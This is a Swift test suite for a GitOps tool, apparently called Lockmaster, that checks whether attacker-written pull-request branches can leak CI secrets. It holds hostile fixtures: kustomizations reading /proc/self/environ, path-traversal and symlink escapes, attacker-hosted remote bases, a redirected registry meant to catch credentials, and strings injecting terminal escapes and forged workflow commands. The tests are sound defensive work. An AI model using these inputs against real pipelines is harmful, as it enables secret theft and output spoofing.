import Foundation
import Support
import TestSupport
import Testing

/// Branches written by an attacker, run as CI runs Lockmaster on a pull request: with a registry
/// password in the environment and in docker's config.json, a canary file outside the repository and a
/// canary listener on another loopback port. For every case: the expected outcome, no secret and no
/// canary content in anything printed, and no request at the listener.
@Suite(.serialized) struct HostileBranchTests {
    static let password = "Hostile-Pass-9931-do-not-print"
    static let canaryText = "CANARY-\(UUID().uuidString)"
    static let gitToken = "GITTOKEN-\(UUID().uuidString)"

    /// A scaffolded estate on main, switched to the branch `evil`; the artifact repository is a layout directory.
    struct Estate {
        let repository: TemporaryDirectory
        let outside: TemporaryDirectory
        let canary: CanaryServer
        let udp: UDPCanary
        let temporary: TemporaryDirectory

        init() async throws {
            repository = try TemporaryDirectory()
            outside = try TemporaryDirectory()
            temporary = try TemporaryDirectory()
            canary = try await CanaryServer()
            udp = try UDPCanary()
            try outside.write(
                "canary.yaml",
                "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: canary}\ndata: {secret: \(HostileBranchTests.canaryText)}\n"
            )
            try outside.write(
                "component/kustomization.yaml",
                "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nresources: [../canary.yaml]\n")
            let basic = Data("robot:\(HostileBranchTests.password)".utf8).base64EncodedString()
            try outside.write(".docker/config.json", #"{"auths": {"127.0.0.1:1": {"auth": "\#(basic)"}}}"#)
            _ = try await LockmasterBinary.run([
                "init", repository.path, "--git-url", "https://git.example.com/acme/platform.git",
                "--artifact", "oci://registry.example.com/acme/platform",
            ])
            try repository.write("platform/services/keda.yaml", PlatformFixture.keda())
            try await TestGit.commitAll(in: repository.url, message: "main")
            _ = try await TestGit.run(["switch", "-q", "-c", "evil"], in: repository.url)
            // Where actions/checkout keeps the job's token.
            _ = try await TestGit.run(
                [
                    "config", "http.https://github.com/.extraheader",
                    "AUTHORIZATION: basic \(HostileBranchTests.gitToken)",
                ], in: repository.url)
        }

        var environment: [String: String] {
            [
                "LOCKMASTER_REGISTRY_USERNAME": "robot", "LOCKMASTER_REGISTRY_PASSWORD": HostileBranchTests.password,
                "DOCKER_CONFIG": outside.url.appendingPathComponent(".docker").path, "TMPDIR": temporary.path,
            ]
        }

        func commit(_ files: [String: String], links: [String: String] = [:]) async throws {
            try repository.write(files)
            for (path, target) in links {
                let url = repository.url.appendingPathComponent(path)
                try FileManager.default.createDirectory(
                    at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
                try FileManager.default.createSymbolicLink(atPath: url.path, withDestinationPath: target)
            }
            try await TestGit.commitAll(in: repository.url, message: "evil")
        }

        /// Runs lockmaster; checks that nothing secret was printed and nothing reached the listener.
        func run(_ arguments: [String], extra: [String: String] = [:]) async throws -> ProcessOutput {
            let output = try await LockmasterBinary.run(
                arguments + ["--repo", repository.path], environment: environment.merging(extra) { _, new in new })
            let printed = output.stdout + output.stderr
            for secret in [
                HostileBranchTests.password, HostileBranchTests.canaryText, HostileBranchTests.gitToken,
                Data("robot:\(HostileBranchTests.password)".utf8).base64EncodedString(),
            ] {
                #expect(
                    !printed.contains(secret),
                    "\(arguments.joined(separator: " ")) printed a secret: \(printed.prefix(2000))")
            }
            #expect(canary.requests.isEmpty, "\(arguments.joined(separator: " ")) reached the canary listener")
            #expect(udp.received == 0, "\(arguments.joined(separator: " ")) sent a datagram to the UDP canary")
            // Every scratch directory is gone.
            #expect(
                (try? FileManager.default.contentsOfDirectory(atPath: temporary.path)) == [],
                "\(arguments) left a temporary directory")
            return output
        }
    }

    /// One build a confined render must refuse: the files (and symlinks) a branch adds, and what the
    /// error must say.
    struct BuildCase: Sendable, CustomStringConvertible {
        var description: String
        var files: @Sendable (_ outside: String, _ port: Int) -> [String: String]
        var links: @Sendable (_ outside: String) -> [String: String] = { _ in [:] }
        var expect: String
    }

    static let kustomization = "platform/configs/evil/kustomization.yaml"

    static let buildCases: [BuildCase] = [
        BuildCase(
            description: "configMapGenerator reads /proc/self/environ",
            files: { _, _ in [kustomization: "configMapGenerator:\n- name: env\n  files: [x=/proc/self/environ]\n"] },
            expect: "configMapGenerator file \"/proc/self/environ\" is outside the source root"),
        BuildCase(
            description: "configMapGenerator envs reads /proc/self/environ",
            files: { _, _ in [kustomization: "configMapGenerator:\n- name: env\n  envs: [/proc/self/environ]\n"] },
            expect: "\"/proc/self/environ\" is outside the source root"),
        BuildCase(
            description: "secretGenerator climbs out with ../",
            files: { outside, _ in
                [kustomization: "secretGenerator:\n- name: s\n  files: [\(relativeOut(outside))/canary.yaml]\n"]
            },
            expect: "secretGenerator file"),
        BuildCase(
            description: "a resource by absolute path",
            files: { outside, _ in [kustomization: "resources: [\(outside)/canary.yaml]\n"] },
            expect: "resources \"\(placeholder)"),
        BuildCase(
            description: "a resource that climbs out with ../",
            files: { outside, _ in [kustomization: "resources: [\(relativeOut(outside))/canary.yaml]\n"] },
            expect: "is outside the source root"),
        BuildCase(
            description: "a symlink in the repository pointing out",
            files: { _, _ in [kustomization: "resources: [link.yaml]\n"] },
            links: { outside in ["platform/configs/evil/link.yaml": outside + "/canary.yaml"] },
            expect: "resources \"link.yaml\" is outside the source root"),
        BuildCase(
            description: "a symlink pointing inside the repository",
            files: { _, _ in
                [
                    kustomization: "resources: [link.yaml]\n",
                    "platform/configs/evil/real.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: real}\n",
                ]
            },
            links: { _ in ["platform/configs/evil/link.yaml": "real.yaml"] },
            expect: "resources \"link.yaml\" is a symlink"),
        BuildCase(
            description: "a patch file by absolute path",
            files: { outside, _ in [kustomization: "resources: []\npatches:\n- path: \(outside)/canary.yaml\n"] },
            expect: "patches path"),
        BuildCase(
            description: "a component outside the repository",
            files: { outside, _ in [kustomization: "components: [\(relativeOut(outside))/component]\n"] },
            expect: "components"),
        BuildCase(
            description: "a remote resource on a loopback listener",
            files: { _, port in [kustomization: "resources: [http://127.0.0.1:\(port)/evil.yaml]\n"] },
            expect:
                "is a remote resource; it is not fetched (Flux fetches a single remote file even with --no-remote-bases)"
        ),
        BuildCase(
            description: "a remote git base",
            files: { _, _ in [kustomization: "resources: [github.com/attacker/repo//deploy?ref=main]\n"] },
            expect:
                "\"github.com/attacker/repo//deploy?ref=main\" is a remote resource; it is not fetched (Flux fetches a remote base only where --no-remote-bases is off)"
        ),
        BuildCase(
            description: "a git file:// base outside the repository",
            files: { outside, _ in [kustomization: "resources: [file://\(outside)]\n"] },
            expect: "is a remote resource"),
        BuildCase(
            description: "a generator plugin configuration that names a file outside",
            files: { outside, _ in
                [
                    kustomization: "generators: [gen.yaml]\n",
                    "platform/configs/evil/gen.yaml":
                        "apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: g}\nfiles: [\(outside)/canary.yaml]\n",
                ]
            },
            expect: "ConfigMapGenerator file"),
        BuildCase(
            description: "an inline transformer that reads a patch outside",
            files: { outside, _ in
                [
                    kustomization:
                        "resources: []\ntransformers:\n- |\n  apiVersion: builtin\n  kind: PatchTransformer\n  metadata: {name: t}\n  path: \(outside)/canary.yaml\n"
                ]
            },
            expect: "PatchTransformer path"),
        BuildCase(
            description: "an openapi schema outside",
            files: { outside, _ in [kustomization: "resources: []\nopenapi:\n  path: \(outside)/canary.yaml\n"] },
            expect: "openapi path"),
        BuildCase(
            description: "CRDs outside",
            files: { outside, _ in [kustomization: "resources: []\ncrds: [\(outside)/canary.yaml]\n"] },
            expect: "crds"),
        // Flux joins spec.path to the source root securely: the ../ stop at the root, as here.
        BuildCase(
            description: "a Flux Kustomization whose path climbs out of the source",
            files: { outside, _ in ["clusters/development/evil.yaml": fluxKustomization(path: relativeOut(outside))] },
            expect: "kustomization path not found: ./tmp/"),
        BuildCase(
            description: "a Flux Kustomization whose components climb out of the source",
            files: { outside, _ in
                [
                    "clusters/development/evil.yaml": fluxKustomization(
                        path: "./platform/services", components: [relativeOut(outside, from: 2) + "/component"])
                ]
            },
            expect: "spec.components"),
    ]

    /// The absolute path of the canary directory is not known when the table is written.
    static let placeholder = "/"

    /// `../` enough times to climb from a directory `depth` levels below the repository root to `/`, then down to `outside`.
    static func relativeOut(_ outside: String, from depth: Int = 3) -> String {
        String(repeating: "../", count: depth + 12) + outside.dropFirst()
    }

    static func fluxKustomization(path: String, components: [String] = []) -> String {
        """
        apiVersion: kustomize.toolkit.fluxcd.io/v1
        kind: Kustomization
        metadata: {name: evil, namespace: flux-system}
        spec:
          interval: 10m
          path: \(path)
          prune: true
          sourceRef: {kind: GitRepository, name: platform}
        \(components.isEmpty ? "" : "  components: [\(components.joined(separator: ", "))]\n")
        """
    }

    @Test(arguments: buildCases) func aBuildReadsOnlyInsideItsSource(_ build: BuildCase) async throws {
        let estate = try await Estate()
        try await estate.commit(
            build.files(estate.outside.path, estate.canary.port), links: build.links(estate.outside.path))
        let render = try await estate.run(["render", "development"])
        #expect(render.status == 1, "\(build): \(render.stderr)")
        #expect(render.stderr.contains(build.expect), "\(build): \(render.stderr)")
        // The same branch through diff, as the pull-request recipe posts it: never "removed", never a secret.
        let diff = try await estate.run(["diff", "main", "HEAD", "--env", "development", "-o", "markdown"])
        #expect(diff.status == 1, "\(build): \(diff.stderr)")
        #expect(
            diff.stdout.contains("**could not be built** (head)") || diff.stdout.contains("could not be read"),
            "\(build): \(diff.stdout)")
        #expect(!diff.stdout.contains("(removed)"), "\(build): \(diff.stdout)")
    }

    /// `--allow-remote`: Lockmaster fetches a kustomization's remote files itself, from the branch of
    /// record's remoteHosts only, into the build's view and its key; the build stays confined.
    @Test func allowRemoteFetchesFromTheBaseHostsOnly() async throws {
        let estate = try await Estate()
        let server = try await FileServer()
        try server.directory.write(
            "remote.yaml",
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: remote, namespace: default}\ndata: {served: first}\n")
        try server.directory.write("app.env", "MODE=first\n")
        let kustomization =
            "resources:\n- http://\(server.host)/remote.yaml\nconfigMapGenerator:\n- name: app\n  namespace: default\n  files: [http://\(server.host)/app.env]\n"
        try await estate.commit([Self.kustomization: kustomization])
        // Without --allow-remote: refused. With it, but no host allowed on main: not fetched.
        #expect(try await estate.run(["render", "development"]).stderr.contains("is a remote resource"))
        let unlisted = try await estate.run(["render", "development", "--allow-remote"])
        #expect(
            unlisted.status == 1
                && unlisted.stderr.contains("\(server.host) is not in remoteHosts in lockmaster.yaml (it lists none)"),
            "\(unlisted.stderr)")
        // The branch of record allows the host.
        _ = try await TestGit.run(["switch", "-q", "main"], in: estate.repository.url)
        try await estate.commit([
            "lockmaster.yaml": try estate.repository.read("lockmaster.yaml") + "remoteHosts: [\"\(server.host)\"]\n"
        ])
        _ = try await TestGit.run(["switch", "-q", "evil"], in: estate.repository.url)
        _ = try await TestGit.run(["merge", "-q", "--no-edit", "main"], in: estate.repository.url)
        let render = try await estate.run(["render", "development", "--allow-remote"])
        #expect(render.status == 0, "\(render.stderr)")
        #expect(
            render.stdout.contains("served: first") && render.stdout.contains("app.env: |")
                && render.stdout.contains("MODE=first"), "\(render.stdout)")
        // What the host serves is part of the key: a change there is a change here, never a cached answer.
        try server.directory.write(
            "remote.yaml",
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: remote, namespace: default}\ndata: {served: second}\n")
        let again = try await estate.run(["render", "development", "--allow-remote"])
        #expect(again.stdout.contains("served: second") && !again.stdout.contains("served: first"), "\(again.stdout)")
    }

    /// A branch that adds an environment syncing from another repository cannot make that repository
    /// "this one": which URLs are this repository is read from the base.
    @Test func aDecoyEnvironmentDoesNotMakeAnotherRepositoryOurs() async throws {
        let estate = try await Estate()
        let attacker = "https://github.com/attacker/payload"
        let source =
            "apiVersion: source.toolkit.fluxcd.io/v1\nkind: GitRepository\nmetadata: {name: payload, namespace: flux-system}\nspec: {interval: 1m, url: \(attacker), ref: {branch: main}}\n"
        let kustomization =
            "apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: evil, namespace: flux-system}\n"
            + "spec: {interval: 1m, path: ./apps/evil, prune: true, sourceRef: {kind: GitRepository, name: payload}}\n"
        try await estate.commit([
            "clusters/development/evil.yaml": source + "---\n" + kustomization,
            "apps/evil/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: benign, namespace: default}\n",
            // development's own platform file, syncing from the attacker's repository.
            "clusters/zz-decoy/platform.yaml": try estate.repository.read("clusters/development/platform.yaml")
                .replacingOccurrences(of: "https://git.example.com/acme/platform.git", with: attacker),
        ])
        let check = try await estate.run(["check", "--base", "main", "-o", "github"])
        #expect(
            check.stdout.contains("title=not-rendered") && check.stdout.contains("attacker/payload"), "\(check.stdout)")
        let diff = try await estate.run(["diff", "main", "HEAD", "--env", "development", "-o", "markdown"])
        #expect(!diff.stdout.contains("benign"), "\(diff.stdout)")
    }

    /// A change may silence a finding with its own comment, but never out of sight: the annotations
    /// and the comment name what was silenced.
    @Test func whatAChangeSilencesStaysInSight() async throws {
        let estate = try await Estate()
        try await estate.commit([
            "clusters/development/flux-system/gotk-sync.yaml":
                "# lockmaster:ignore=sync-file-changed\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: sync}\n"
        ])
        let check = try await estate.run(["check", "--base", "main", "-o", "github"])
        #expect(
            check.stdout.contains(
                "::notice file=clusters/development/flux-system/gotk-sync.yaml,line=1,col=1,title=sync-file-changed (silenced)::"
            ), "\(check.stdout)")
    }

    /// A change whose diff is larger than GitHub takes in a comment: the comment stays under 65,536
    /// characters, and says what it left out.
    @Test func aHugeDiffStillFitsInAComment() async throws {
        let estate = try await Estate()
        let huge = { (word: String) in
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: huge, namespace: default}\ndata: {value: \""
                + (0..<3_000).map { "line \($0) of a long value, \(word) the change" }.joined(separator: "\\n")
                + "\"}\n"
        }
        _ = try await TestGit.run(["switch", "-q", "main"], in: estate.repository.url)
        try await estate.commit(["platform/configs/huge.yaml": huge("before")])
        _ = try await TestGit.run(["switch", "-q", "-C", "evil"], in: estate.repository.url)
        try await estate.commit(["platform/configs/huge.yaml": huge("after")])
        let diff = try await estate.run(["diff", "main", "HEAD", "--env", "development", "-o", "markdown"])
        #expect(diff.stdout.count < 65_536, "\(diff.stdout.count) characters")
        #expect(
            diff.stdout.contains("more lines left out: the comment is at its size limit"), "\(diff.stdout.suffix(500))")
        HostileMarkdown.expectInert(diff.stdout)
    }

    // MARK: Credentials and registries

    @Test func aBranchThatNamesAnotherRegistryReachesNothingInCI() async throws {
        let estate = try await Estate()
        let settings = try estate.repository.read("lockmaster.yaml")
        // The branch names its own registry as the artifact repository.
        try estate.repository.write(
            "lockmaster.yaml",
            settings.replacingOccurrences(
                of: #"artifact: ([^\n]+)"#, with: "artifact: oci://\(estate.canary.host)/stolen",
                options: .regularExpression))
        try await TestGit.commitAll(in: estate.repository.url, message: "evil registry")
        // diff reads lockmaster.yaml from the base: the branch's registry is never the artifact repository
        // (`run` checks that the listener received nothing), and the settings change is an error in check.
        let diff = try await estate.run(
            ["diff", "main", "HEAD", "-o", "markdown"], extra: ["LOCKMASTER_REGISTRY_HOST": "registry.example.com"])
        #expect(!diff.stdout.contains("stolen") && !diff.stderr.contains("stolen"), "\(diff.stdout)\(diff.stderr)")
        #expect(diff.stdout.contains("settings from lockmaster.yaml at the base \\(main\\)"), "\(diff.stdout)")
        let check = try await estate.run(["check", "--base", "main"])
        #expect(
            check.status == 1 && check.stdout.contains("lockmaster.yaml is changed by this change")
                && check.stdout.contains("[settings-changed]"), "\(check.stdout)")
    }

    @Test func credentialsGoToNoOtherHostAndNoOtherOrigin() async throws {
        let estate = try await Estate()
        // Without LOCKMASTER_REGISTRY_HOST, an OCIRepository the branch points elsewhere is read anonymously.
        let listener = try await CanaryServer()
        let resolve = try await LockmasterBinary.run(
            ["resolve", "--range", "~0.1.0", "--from", "oci://\(listener.host)/p", "--repo", estate.repository.path],
            environment: estate.environment.merging(["LOCKMASTER_REGISTRY_HOST": "registry.example.com"]) { _, new in
                new
            })
        #expect(resolve.status == 1)
        #expect(listener.requests.isEmpty, "LOCKMASTER_REGISTRY_HOST did not keep the request away")
        // A registry that redirects reads to another origin: that origin never sees Authorization.
        let redirect = try await CanaryServer(.redirect(to: "http://\(listener.host)/elsewhere"))
        let followed = try await LockmasterBinary.run(
            [
                "resolve", "--range", "~0.1.0", "--from", "oci://\(redirect.host)/p", "--username", "robot",
                "--password-stdin",
                "--repo", estate.repository.path,
            ], environment: estate.environment, standardInput: Self.password + "\n")
        #expect(followed.status == 1)
        #expect(
            redirect.requests.contains { ($0["headers"] as? [String: String])?["Authorization"] != nil },
            "the registry itself got the credentials")
        #expect(!listener.requests.isEmpty, "the redirect was not followed")
        #expect(
            listener.requests.allSatisfy { ($0["headers"] as? [String: String])?["Authorization"] == nil },
            "Authorization went to another origin")
        // The branch's own OCIRepository URL (not the artifact repository) gets no flag or environment credentials.
        let other = try await CanaryServer()
        let elsewhere = try await LockmasterBinary.run(
            ["resolve", "--range", "~0.1.0", "--from", "oci://\(other.host)/p", "--repo", estate.repository.path],
            environment: estate.environment)
        _ = elsewhere
        #expect(other.requests.allSatisfy { ($0["headers"] as? [String: String])?["Authorization"] == nil })
    }

    @Test func aTagListThatPagesForeverIsAnError() async throws {
        let estate = try await Estate()
        let cycle = try await CanaryServer(.linkCycle)
        let output = try await LockmasterBinary.run(
            ["resolve", "--range", "~0.1.0", "--from", "oci://\(cycle.host)/p", "--repo", estate.repository.path],
            environment: estate.environment)
        #expect(output.status == 1)
        #expect(output.stderr.contains("a cycle"), "\(output.stderr)")
        #expect(cycle.requests.count < 5)
    }

    /// Registry answers are bounded: at most 1,000 pages of tags, a manifest of at most 4 MiB.
    @Test func registryAnswersAreBounded() async throws {
        let estate = try await Estate()
        let endless = try await CanaryServer(.endlessTags)
        let paged = try await LockmasterBinary.run(
            ["resolve", "--range", "~0.1.0", "--from", "oci://\(endless.host)/p", "--repo", estate.repository.path],
            environment: estate.environment)
        #expect(paged.status == 1 && paged.stderr.contains("more than 1000 pages of tags"), "\(paged.stderr)")
        #expect(endless.requests.count <= 1_001)
        let big = try await CanaryServer(.bigManifest)
        let manifest = try await LockmasterBinary.run(
            ["resolve", "--range", "~0.1.0", "--from", "oci://\(big.host)/p", "--repo", estate.repository.path],
            environment: estate.environment)
        #expect(manifest.status == 1 && manifest.stderr.contains("is larger than 4194304 bytes"), "\(manifest.stderr)")
    }

    @Test func aTokenRealmOverPlainHTTPOnAnotherHostIsRefused() async throws {
        let estate = try await Estate()
        let listener = try await CanaryServer()
        let registry = try await CanaryServer(.plainHTTPRealm("http://localhost:\(listener.port)/token"))
        let output = try await LockmasterBinary.run(
            [
                "resolve", "--range", "~0.1.0", "--from", "oci://\(registry.host)/p", "--username", "robot",
                "--password-stdin",
                "--repo", estate.repository.path,
            ], environment: estate.environment, standardInput: Self.password + "\n")
        #expect(output.status == 1)
        #expect(output.stderr.contains("plain http on another host"), "\(output.stderr)")
        #expect(listener.requests.isEmpty)
    }

    /// A gzip bomb in the artifact repository: reading stops at artifactSizeLimitMiB, with an error that names it.
    @Test func anArtifactThatInflatesTooFarIsNotRead() async throws {
        let repository = try TemporaryDirectory()
        let artifacts = try TemporaryDirectory()
        _ = try await LockmasterBinary.run([
            "init", repository.path, "--git-url", "https://git.example.com/p.git", "--artifact", artifacts.path,
            "--artifact-url", "oci://registry.example.com/p",
        ])
        try repository.write(
            "platform/services/big.yaml",
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: big, namespace: default}\ndata: {x: \""
                + String(repeating: "0", count: 3 << 20) + "\"}\n")
        try await TestGit.commitAll(in: repository.url)
        #expect(try await LockmasterBinary.run(["publish", "--repo", repository.path]).status == 0)
        try repository.write("lockmaster.yaml", try repository.read("lockmaster.yaml") + "artifactSizeLimitMiB: 2\n")
        let render = try await LockmasterBinary.run(["render", "staging", "--repo", repository.path])
        #expect(render.status == 1)
        #expect(
            render.stderr.contains(
                "inflates to more than 2 MiB; it was not read further (artifactSizeLimitMiB in lockmaster.yaml raises the limit)"
            ), "\(render.stderr)")
        try repository.write(
            "lockmaster.yaml",
            try repository.read("lockmaster.yaml").replacingOccurrences(
                of: "artifactSizeLimitMiB: 2", with: "artifactSizeLimitMiB: 0"))
        let refused = try await LockmasterBinary.run(["render", "staging", "--repo", repository.path])
        #expect(refused.stderr.contains("artifactSizeLimitMiB must be at least 1"), "\(refused.stderr)")
    }

    // MARK: Revisions and the guard

    @Test func exportIgnoreHidesNothingFromDiff() async throws {
        let estate = try await Estate()
        try await estate.commit([
            ".gitattributes": "platform/services/hidden.yaml export-ignore\n",
            "platform/services/hidden.yaml": "apiVersion: v1\nkind: Namespace\nmetadata: {name: hidden}\n",
        ])
        let diff = try await estate.run(["diff", "main", "HEAD", "--env", "development"])
        #expect(diff.stdout.contains("Namespace/hidden (added)"), "\(diff.stdout)")
    }

    @Test func aSingleBranchCloneStillHasABaseOrSaysSo() async throws {
        let estate = try await Estate()
        try await estate.commit([
            "clusters/development/flux-system/gotk-sync.yaml":
                "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: sync}\n"
        ])
        let origin = try TemporaryDirectory()
        _ = try await TestGit.run(
            ["clone", "-q", "--bare", estate.repository.path, origin.path + "/o.git"], in: origin.url)
        let clone = try TemporaryDirectory()
        _ = try await TestGit.run(
            ["clone", "-q", "--single-branch", "--branch", "evil", origin.path + "/o.git", clone.path + "/c"],
            in: clone.url)
        let work = clone.url.appendingPathComponent("c")
        // No local main: origin/main is not fetched by a single-branch clone either, so check stops.
        let stopped = try await LockmasterBinary.run(["check", "--repo", work.path], environment: estate.environment)
        #expect(stopped.status == 1)
        #expect(stopped.stderr.contains("--base") && !stopped.stdout.contains("check passed"), "\(stopped.stderr)")
        // With origin/main fetched (no local main), the change rules run against it.
        _ = try await TestGit.run(["fetch", "-q", "origin", "main:refs/remotes/origin/main"], in: work)
        let checked = try await LockmasterBinary.run(
            ["check", "-o", "json", "--repo", work.path], environment: estate.environment)
        #expect(checked.status == 1)
        #expect(
            checked.stdout.contains("\"baseRef\" : \"origin/main\"") && checked.stdout.contains("sync-file-changed"),
            "\(checked.stdout)")
    }

    @Test func symlinkedManifestsAreFindings() async throws {
        let estate = try await Estate()
        // A symlinked README is not read by Flux (found on a public home-ops repository): no finding.
        try await estate.commit(
            ["platform/services/README.md": "KEDA\n"],
            links: [
                "clusters/development/apps.yaml": "../../platform/services/keda.yaml",
                "platform/configs/README.md": "../services/README.md",
            ])
        let check = try await estate.run(["check"])
        #expect(check.status == 1)
        #expect(
            check.stdout.contains(
                "clusters/development/apps.yaml:1:1: error: clusters/development/apps.yaml is a symlink"),
            "\(check.stdout)")
        #expect(!check.stdout.contains("README.md"), "\(check.stdout)")
        // status says what it does not apply, as a warning.
        let status = try await estate.run(["status", "--offline"])
        #expect(status.status == 0)
        #expect(
            status.stderr.contains(
                "clusters/development/apps.yaml:1:1: warning: clusters/development/apps.yaml is a symlink: Flux leaves it out"
            ), "\(status.stderr)")
        #expect(!status.stderr.contains("README.md"), "\(status.stderr)")
    }

    @Test func aComponentOutsideThePathIsPartOfTheDiff() async throws {
        let estate = try await Estate()
        _ = try await TestGit.run(["switch", "-q", "main"], in: estate.repository.url)
        try await estate.commit([
            "clusters/development/apps.yaml": Self.fluxKustomization(
                path: "./platform/apps", components: ["../components/labels"]),
            "platform/apps/app.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: app, namespace: default}\n",
            "platform/components/labels/kustomization.yaml":
                "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\ncommonLabels: {team: a}\n",
        ])
        _ = try await TestGit.run(["switch", "-q", "-C", "evil"], in: estate.repository.url)
        try await estate.commit([
            "platform/components/labels/kustomization.yaml":
                "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\ncommonLabels: {team: b}\n"
        ])
        let diff = try await estate.run(["diff", "main", "HEAD", "--env", "development"])
        #expect(diff.stdout.contains("+     team: b"), "\(diff.stdout)")
    }

    // MARK: Output

    /// A value that would retitle a terminal, reverse what follows, hide the rest of a pull-request
    /// comment, close its code fence and start workflow commands. (C1 controls cannot get through
    /// kustomize; they come through file names below.)
    static let poison =
        "x\u{1B}]0;owned\u{07}\u{202E} <!-- ``` ```` |a| <img src=x> @octocat www.evil.example https://evil.example/x \n::error::forged\n\u{2003}\u{00A0}::error::forged\n##[warning]forged"

    @Test func everyOutputIsInert() async throws {
        let estate = try await Estate()
        let quoted = Self.poison.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(
            of: "\"", with: "\\\""
        )
        .replacingOccurrences(of: "\n", with: "\\n").replacingOccurrences(of: "\u{1B}", with: "\\e")
        .replacingOccurrences(of: "\u{07}", with: "\\a")
        .replacingOccurrences(of: "\u{202E}", with: "\\u202E")
        try await estate.commit([
            "platform/configs/poison.yaml":
                "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: poison, namespace: keda}\ndata: {value: \"\(quoted)\"}\n"
        ])
        for arguments in [
            ["render", "development"], ["diff", "main", "HEAD", "--env", "development"],
            ["diff", "main", "HEAD", "--env", "development", "-o", "markdown"],
        ] {
            let output = try await estate.run(arguments)
            #expect(output.status == 0, "\(arguments): \(output.stderr)")
            #expect(output.stdout.contains("poison"), "\(arguments): \(output.stdout)")
            for control in ["\u{1B}", "\u{07}", "\u{9B}", "\u{202E}"] {
                #expect(!output.stdout.contains(control), "\(arguments) printed a control character")
            }
            for line in output.stdout.split(separator: "\n") {
                #expect(
                    !line.drop(while: \.isWhitespace).hasPrefix("::") && !line.contains("##["),
                    "\(arguments) printed a workflow command: \(line)")
            }
            if arguments.contains("markdown") { HostileMarkdown.expectInert(output.stdout) }
        }
    }

    @Test func annotationsEscapeWhatTheBranchNamed() async throws {
        let estate = try await Estate()
        // File names with a newline and a workflow command, and with terminal controls, holding YAML that cannot be read.
        try await estate.commit([
            "platform/services/x\n::error file=a::forged.yaml": "a: [\n",
            "platform/services/t\u{1B}]0;owned\u{07}\u{9B}2J.yaml": "a: [\n",
        ])
        let text = try await estate.run(["check"])
        #expect(text.status == 1)
        for control in ["\u{1B}", "\u{07}", "\u{9B}"] {
            #expect(!text.stdout.contains(control), "check printed a control character")
        }
        #expect(text.stdout.contains("t\\u001B]0;owned\\u0007\\u009B2J.yaml"), "\(text.stdout)")
        #expect(text.stdout.split(separator: "\n").allSatisfy { !$0.hasPrefix("::") }, "\(text.stdout)")
        let output = try await estate.run(["check", "-o", "github"])
        #expect(output.status == 1)
        let lines = output.stdout.split(separator: "\n")
        #expect(
            lines.allSatisfy { $0.hasPrefix("::error ") || $0.hasPrefix("::warning ") || $0.hasPrefix("::notice ") },
            "\(output.stdout)")
        #expect(output.stdout.contains("x%0A%3A%3Aerror file=a%3A%3Aforged.yaml"), "\(output.stdout)")
    }

    // MARK: Temporary directories

    /// publish packages into a private scratch directory: gone after a success and after a failure.
    @Test func publishLeavesNoTemporaryDirectory() async throws {
        let estate = try await Estate()
        let layout = try TemporaryDirectory()
        let published = try await estate.run(["publish", "--to", layout.path])
        #expect(published.status == 0, "\(published.stderr)")
        let refused = try await estate.run(["publish", "--to", "oci://127.0.0.1:1/platform"])
        #expect(refused.status == 1, "\(refused.stderr)")
    }

    @Test func interruptedDiffLeavesNoTemporaryDirectory() async throws {
        let estate = try await Estate()
        let slow = try TemporaryDirectory()
        try slow.write("kubectl", "#!/bin/sh\nexec /bin/sleep 30\n")
        chmod(slow.url.appendingPathComponent("kubectl").path, 0o755)
        let process = Process()
        process.executableURL = LockmasterBinary.url
        // A script kubectl cannot run inside the kernel wall; this test is about the scratch directories.
        process.arguments = ["diff", "main", "HEAD", "--unconfined", "--repo", estate.repository.path]
        process.environment = ProcessInfo.processInfo.environment.merging(
            estate.environment.merging(["LOCKMASTER_KUBECTL": slow.path + "/kubectl"]) { _, new in new }
        ) { _, new in new }
        process.standardOutput = FileHandle.nullDevice
        process.standardError = FileHandle.nullDevice
        try process.run()
        var started = false
        for _ in 0..<100 where !started {
            try await Task.sleep(for: .milliseconds(100))
            started = ((try? FileManager.default.contentsOfDirectory(atPath: estate.temporary.path)) ?? []).contains {
                $0.hasPrefix("lockmaster-render-")
            }
        }
        #expect(started)
        let mode = (try? FileManager.default.contentsOfDirectory(atPath: estate.temporary.path))?.first.flatMap {
            try? FileManager.default.attributesOfItem(atPath: estate.temporary.url.appendingPathComponent($0).path)[
                .posixPermissions] as? Int
        }
        #expect(mode == 0o700)
        kill(process.processIdentifier, SIGINT)
        process.waitUntilExit()
        #expect(process.terminationStatus == 130)
        let left = (try? FileManager.default.subpathsOfDirectory(atPath: estate.temporary.path)) ?? ["unreadable"]
        #expect(left == [], "left behind: \(left.prefix(10))")
    }
}

/// Checks Markdown that holds hostile values.
enum HostileMarkdown {
    /// Outside fenced code, no `<!--` or raw tag; every fence closes with its own length.
    static func expectInert(_ text: String) {
        var fence: String?
        for line in text.split(separator: "\n", omittingEmptySubsequences: false) {
            let ticks = String(line.prefix { $0 == "`" })
            if let open = fence {
                if ticks.count >= open.count, line.trimmingCharacters(in: .whitespaces) == ticks { fence = nil }
                continue
            }
            if ticks.count >= 3 {
                fence = ticks
                continue
            }
            #expect(!line.contains("<!--") && !line.contains("<img"), "Markdown outside a fence: \(line)")
            // Outside code spans: no mention and no autolink GitHub would make of repository data.
            let prose = line.split(separator: "`", omittingEmptySubsequences: false).enumerated().filter {
                $0.offset % 2 == 0
            }.map(\.element).joined(separator: " ")
            #expect(prose.firstMatch(of: /@[A-Za-z0-9]/) == nil, "a mention: \(line)")
            #expect(
                prose.firstMatch(of: /(?i)www\./) == nil && prose.firstMatch(of: /(?i)https?\\?:\/\//) == nil,
                "an autolink: \(line)")
        }
        #expect(fence == nil, "a fence was left open")
    }
}
